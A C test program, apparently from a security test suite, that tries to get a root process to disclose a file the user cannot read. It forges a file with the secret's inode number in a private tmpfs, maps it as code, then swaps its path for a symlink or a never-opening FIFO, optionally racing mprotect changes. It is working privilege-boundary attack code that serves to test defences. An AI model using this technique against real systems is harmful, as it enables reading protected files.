/* Has root read a file that this user may not read, by a path that leads there at the right moment.
 *
 *   other_file SECRET (link|fifo|race)
 *
 * In a mount namespace of its own it makes a file with the inode number of SECRET, maps it like text, and replaces its path:
 * by a symbolic link to SECRET, or by a FIFO, whose open never ends. With "race" the mapping changes all the time besides, so
 * that whoever looks for it by its addresses does not find it. Exits with 66 if the bytes of SECRET came to be in the mapping. */
#define _GNU_SOURCE
#include <pthread.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include "../namespaces.h"

enum { STOLEN = 66, MIB = 1 << 20 };

static char *text;
static volatile int done;

static void *changes(void *unused)
{
    (void)unused;
    while (!done) {
        mprotect(text + 6 * MIB, 4096, PROT_READ);
        mprotect(text + 6 * MIB, 4096, PROT_READ | PROT_EXEC);
    }
    return NULL;
}

int main(int argc, char **argv)
{
    struct stat secret, own;
    pthread_t thread;
    char name[32];
    int fd, number = 0;
    if (argc != 3 || stat(argv[1], &secret))
        return BROKEN;
    own_namespaces(getuid(), getgid());
    /* Its inode numbers begin at 1: one after the other comes to that of the secret. */
    if (mount("none", "/mnt", "tmpfs", 0, "nr_inodes=0,size=64m") || chdir("/mnt"))
        return BROKEN;
    for (;;) {
        snprintf(name, sizeof name, "/mnt/%d", number++);
        fd = open(name, O_RDWR | O_CREAT | O_CLOEXEC, 0755);
        if (fd < 0 || fstat(fd, &own) || own.st_ino > secret.st_ino)
            return BROKEN;
        if (own.st_ino == secret.st_ino)
            break;
        close(fd);
        unlink(name);
    }
    text = (char *)0x200000000000;
    if (ftruncate(fd, 8 * MIB) || mmap(text, 6 * MIB + 8192, PROT_READ | PROT_EXEC, MAP_PRIVATE | MAP_FIXED_NOREPLACE, fd, 0) != text)
        return BROKEN;
    unlink(name);
    if (!strcmp(argv[2], "fifo") ? mkfifo(name, 0755) : symlink(argv[1], name))
        return BROKEN;
    if (!strcmp(argv[2], "race") && pthread_create(&thread, NULL, changes, NULL))
        return BROKEN;
    printf("pid %d\n", getpid());
    ready_and_wait();
    done = 1;
    return memchr(text, 's', 6 * MIB) ? STOLEN : 7;
}
